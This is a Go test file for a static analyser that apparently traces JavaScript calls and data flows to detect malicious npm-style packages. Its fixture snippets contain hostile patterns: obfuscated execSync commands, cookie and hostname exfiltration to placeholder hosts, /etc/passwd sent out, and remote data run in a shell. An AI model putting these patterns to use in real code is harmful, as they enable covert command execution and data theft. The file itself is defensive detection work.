package static_test

import (
	"bytes"
	"context"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/donapi/donapi/internal/callseq"
	"github.com/donapi/donapi/internal/report"
	"github.com/donapi/donapi/internal/static"
)

// TestCalls evaluates a program and asks for calls, as known writes them. "!" before one asks that it is not there.
func TestCalls(t *testing.T) {
	const run = `const run = require("child_process").execSync;` + "\n"
	for _, c := range []struct{ name, src, want string }{
		{"order and concatenation", run + `let a = "x"; a += "y"; run(a + 1);`, `call child_process.execSync("xy1")`},
		{"both branches", run + `if (process.env.A) run("yes"); else run("no");`, `call child_process.execSync("yes") | call child_process.execSync("no")`},
		{"both cases", run + `switch (process.platform) { case "linux": run("l"); break; case "win32": run("w"); }`, `call child_process.execSync("l") | call child_process.execSync("w")`},
		{"a known branch", run + `if (1 > 2) run("never"); else run("always");`, `!call child_process.execSync("never") | call child_process.execSync("always")`},
		{"what a branch leaves", run + `let a = "one"; if (process.env.A) a = "two"; run(a);`, `call child_process.execSync(string)`},
		{"a binding that only the branch sees", run + `if (process.env.A) { const a = "in"; setTimeout(() => run(a), 1); }`, `call child_process.execSync("in")`},
		{"a variable that was tested", run + `let a; if (process.env.A) a = "set"; if (a) run(a); if (!a) run("unset");`, `call child_process.execSync("set") | call child_process.execSync("unset")`},
		{"callbacks of the outside", run + `require("fs").readFile("/a", (err, data) => run("cb" + data));`, `call child_process.execSync("cb*")`},
		{"visitors of an unknown list", run + `const found = []; require("fs").readdirSync("/a").forEach((f) => found.push(f)); found.forEach((f) => run("see " + f));`, `call child_process.execSync("see *")`},
		{"map and filter of an unknown list", run + `require("fs").readdirSync("/a").filter((f) => f.endsWith("x")).map((f) => "/a/" + f).forEach((f) => run(f));`, `call child_process.execSync("/a/*")`},
		{"one of two lists", run + `const [a] = /x/.exec(process.env.A) || ["none"]; if (a != "none") run("found");`, `call child_process.execSync("found")`},
		{"promises", run + `Promise.resolve("p").then((v) => run(v)); (async () => { try { await Promise.reject(new Error("e")); } catch (e) { run(e.message); } })();`, `call child_process.execSync("p") | call child_process.execSync("e")`},
		{"all of several", run + `Promise.all([1, Promise.resolve(2)]).then(([a, b]) => run(a + "," + b));`, `call child_process.execSync("1,2")`},
		{"timers in order", run + `let s = ""; setTimeout(() => run(s), 20); setTimeout(() => (s += "a"), 10); process.nextTick(() => (s += "b"));`, `call child_process.execSync("ba")`},
		{"string timers", `setTimeout("require('child_process').execSync('late')", 1)`, `call child_process.execSync("late")`},
		{"classes", run + `class A { #p = "p"; get q() { return this.#p; } static s = "s"; m() { return this.q; } } class B extends A { m() { return super.m() + A.s; } } run(new B().m());`, `call child_process.execSync("ps")`},
		{"generators", run + `function* g() { const x = yield 1; run("got " + x); } const it = g(); it.next(); it.next("x");`, `call child_process.execSync("got x")`},
		{"proxies and getters", run + `const p = new Proxy({}, { get: (t, k) => k + "!" }); const o = { get v() { return "w"; } }; run(p.a + o.v);`, `call child_process.execSync("a!w")`},
		{"exports, driven", `exports.f = function (a) { require("child_process").exec("echo " + a); };`, `call child_process.exec("echo *")`},
		{"base64 and hex", run + `run(Buffer.from("aGVsbG8=", "base64").toString() + Buffer.from("6869", "hex") + atob("eA=="));`, `call child_process.execSync("hellohix")`},
		{"character codes and xor", run + `run([105, 101].map((c) => String.fromCharCode(c ^ 1)).join("") + "\x61");`, `call child_process.execSync("hda")`},
		{"inflate", run + `run(require("zlib").inflateSync(Buffer.from("eJzLSM3JyQcABiwCFQ==", "base64")).toString());`, `call child_process.execSync("hello")`},
		{"a cipher with its key at hand", run + `const c = require("crypto"); const k = c.pbkdf2Sync("p", "s", 10, 32, "sha256"); const e = c.createCipheriv("aes-256-cbc", k, Buffer.alloc(16)); const x = e.update("secret", "utf8", "hex") + e.final("hex"); const d = c.createDecipheriv("aes-256-cbc", k, Buffer.alloc(16)); run(d.update(x, "hex", "utf8") + d.final("utf8"));`, `call child_process.execSync("secret")`},
		{"eval sees the scopes around it", run + `let v; (function () { eval("(function () { v = 'deep'; eval('v += 1'); })()"); })(); run(v);`, `call child_process.execSync("deep1")`},
		{"the Function constructor, by way of others", run + `[]["filter"]["constructor"]("run", "run('made')")(run);`, `call child_process.execSync("made")`},
		{"jsfuck letters", run + `run(([][[]] + [])[1] + (![] + [])[1] + ([]["entries"]() + [])[8]);`, `call child_process.execSync("naA")`},
		{"module._compile of a module made by code", `const m = new module.constructor(); m._compile("require('child_process').execSync('compiled')", "");`, `call child_process.execSync("compiled")`},
		{"vm", `require("vm").runInThisContext("(r) => r('child_process').execSync('vm')")(require);`, `call child_process.execSync("vm")`},
		{"destructured imports", `const { spawn: s } = require("child_process"); s("ls", ["-l"]);`, `call child_process.spawn("ls", {0: "-l"})`},
		{"computed names", `const cp = require(["child", "process"].join("_")); cp["ex" + "ec"]("x");`, `call child_process.exec("x")`},
		{"process.mainModule", `process.mainModule.require("child_process").exec("y");`, `call child_process.exec("y")`},
		{"page: cookie to a server", `fetch("https://p.example/?c=" + document.cookie);`, `call fetch("https://p.example/?c=*")`},
	} {
		got := known(evaluate(t, c.src).Trace)
		for _, want := range strings.Split(c.want, " | ") {
			forbidden := strings.HasPrefix(want, "!")
			if slices.Contains(got, strings.TrimPrefix(want, "!")) == forbidden {
				t.Errorf("%s: %s\ngot:\n  %s", c.name, want, strings.Join(got, "\n  "))
			}
		}
	}
}

// TestFlow follows a value from where it is read to where it goes.
func TestFlow(t *testing.T) {
	for _, c := range []struct{ name, src, from, to string }{
		{"through an object and JSON", `const os = require("os"); const o = { a: { b: os.hostname() } }; fetch("https://f.example", { method: "POST", body: JSON.stringify(o) });`, "os.hostname", "fetch"},
		{"through base64", `const b = Buffer.from(require("os").hostname()).toString("base64"); require("dns").lookup(b + ".f.example", () => {});`, "os.hostname", "dns.lookup"},
		{"through a callback and a class", `class S { constructor(v) { this.v = v; } send() { require("https").request("https://f.example").end(this.v); } } require("fs").readFile("/etc/passwd", (e, d) => new S(d).send());`, "fs.readFile", "http.ClientRequest.end"},
		{"through a file", `const fs = require("fs"); fs.writeFileSync("/tmp/a", require("os").hostname()); fetch("https://f.example/" + fs.readFileSync("/tmp/a"));`, "os.hostname", "fetch"},
		{"through characters", `let s = ""; for (const c of require("os").hostname()) s += c; fetch("https://f.example/" + s);`, "os.hostname", "fetch"},
		{"from a server to a shell", `require("http").get("http://f.example", (r) => r.on("data", (d) => require("child_process").exec(d.toString())));`, "http.get", "child_process.exec"},
	} {
		tr := evaluate(t, c.src).Trace
		if !flows(tr, c.from, c.to) {
			t.Errorf("%s: no flow from %s to %s in\n  %s", c.name, c.from, c.to, strings.Join(known(tr), "\n  "))
		}
	}
	tr := evaluate(t, `const os = require("os"); console.log(os.hostname()); fetch("https://f.example/" + "constant");`).Trace
	if flows(tr, "os.hostname", "fetch") {
		t.Error("a flow was seen where there is none")
	}
}

// flows reports that a value of one API reaches the arguments of another, over any number of calls.
func flows(tr *callseq.Trace, from, to string) bool {
	reached := map[callseq.ID]bool{}
	for i := range tr.Calls {
		c := &tr.Calls[i]
		values := slices.Clone(c.Args)
		if c.Recv != nil {
			values = append(values, *c.Recv)
		}
		hit := c.API == from
		for k := range values {
			for _, f := range values[k].AllFlows() {
				hit = hit || reached[f.From]
			}
		}
		if hit && c.API == to {
			return true
		}
		if hit {
			reached[c.ID] = true
		}
	}
	return false
}

// TestPhases asks in which phase code runs.
func TestPhases(t *testing.T) {
	res := evaluateFiles(t, map[string]string{
		"index.js":  `require("./loaded.js"); exports.f = () => require("child_process").exec("called");`,
		"loaded.js": `require("child_process").exec("loaded");`,
		"stray.js":  `require("child_process").exec("stray");`,
	}, callseq.PhaseInstall)
	want := map[string]callseq.Phase{"loaded": callseq.PhaseInstall, "called": callseq.PhaseCall, "stray": callseq.PhaseUnused}
	for i := range res.Trace.Calls {
		c := &res.Trace.Calls[i]
		if c.API == "child_process.exec" {
			if c.Phase != want[c.Args[0].Text] {
				t.Errorf("%s: phase %s", c.Args[0].Text, c.Phase)
			}
			delete(want, c.Args[0].Text)
		}
	}
	if len(want) > 0 {
		t.Errorf("not seen: %v", want)
	}
}

// TestBudgets ends what does not end, and says so.
func TestBudgets(t *testing.T) {
	b, err := base()
	if err != nil {
		t.Fatal(err)
	}
	for name, src := range map[string]string{
		"an endless loop with work": `let a = 0; while (true) { a = (a * 7 + 1) % 1000; if (a === -1) break; }`,
		"endless recursion":         `function f(n) { return f(n + 1) + f(n + 2); } try { f(0); } catch {}`,
		"a growing list":            `const a = []; for (;;) a.push(a.length, "x");`,
		"a growing text":            `let s = "x"; for (;;) s += s;`,
		"regular expression":        `/^(a+)+$/.test("a".repeat(60) + "b");`,
		"decoded without end":       `const f = (n) => eval("f(" + (n + 1) + ")"); f(0);`,
		"promises without end":      `const f = () => Promise.resolve().then(f); f();`,
		"timers without end":        `setInterval(() => {}, 1);`,
		"branches without end":      `function f(n) { if (process.env["A" + n]) f(n + 1); else f(n + 2); } f(0);`,
	} {
		p := program(map[string]string{"index.js": src + `;require("child_process").exec("after");`}, callseq.PhaseImport)
		res := static.Run(context.Background(), p, b, static.Options{Steps: 2_000_000, Memory: 4_000_000})
		if res.Outcome.Stage != "static" {
			t.Errorf("%s: outcome %+v", name, res.Outcome)
		}
		if res.Outcome.Status == report.Ran && !slices.ContainsFunc(res.Trace.Calls, func(c callseq.Call) bool { return c.API == "child_process.exec" }) {
			t.Errorf("%s: what stands behind it was not reached, and nothing tells", name)
		}
	}
}

// TestCancelled ends with an outcome of our own doing, which no cache keeps.
func TestCancelled(t *testing.T) {
	b, err := base()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	res := static.Run(ctx, program(map[string]string{"index.js": `for (let i = 0; i < 5e6; i++);`}, callseq.PhaseImport), b, static.Options{})
	if res.Outcome.Status == report.Ran || !res.Outcome.Own {
		t.Errorf("outcome %+v", res.Outcome)
	}
}

// TestDeterminism asks for the same bytes twice.
func TestDeterminism(t *testing.T) {
	src := `const fs = require("fs"), o = { b: 1, a: process.env, c: fs.readdirSync(".") };
for (const k in o) fs.writeFileSync("/tmp/" + k, JSON.stringify(o[k]));
exports.x = (a, b) => { if (a) fetch(b); else if (b) eval(a); }; exports.y = class { m(z) { fs.unlink(z, exports.x); } };`
	var first []byte
	for range 5 {
		var b bytes.Buffer
		if err := json.NewEncoder(&b).Encode(evaluate(t, src)); err != nil {
			t.Fatal(err)
		}
		if first == nil {
			first = b.Bytes()
		} else if !bytes.Equal(first, b.Bytes()) {
			t.Fatal("two runs differ")
		}
	}
}

func FuzzRun(f *testing.F) {
	f.Add("exports.a = (b) => require('child_process').exec(b + eval('1+1'))")
	f.Add("for (const [a, b] of Object.entries(process.env)) fetch(`${a}${b}`)")
	f.Add("class A extends (process.env.X ? Array : Map) { static { this.b?.(c => [...c]) } }")
	b, err := base()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, src string) {
		p := program(map[string]string{"index.js": src}, callseq.PhaseImport)
		res := static.Run(context.Background(), p, b, static.Options{Steps: 200_000, Memory: 500_000})
		for i := range res.Trace.Calls {
			if res.Trace.Calls[i].ID != callseq.ID(i+1) {
				t.Fatalf("call %d has ID %d", i+1, res.Trace.Calls[i].ID)
			}
		}
	})
}
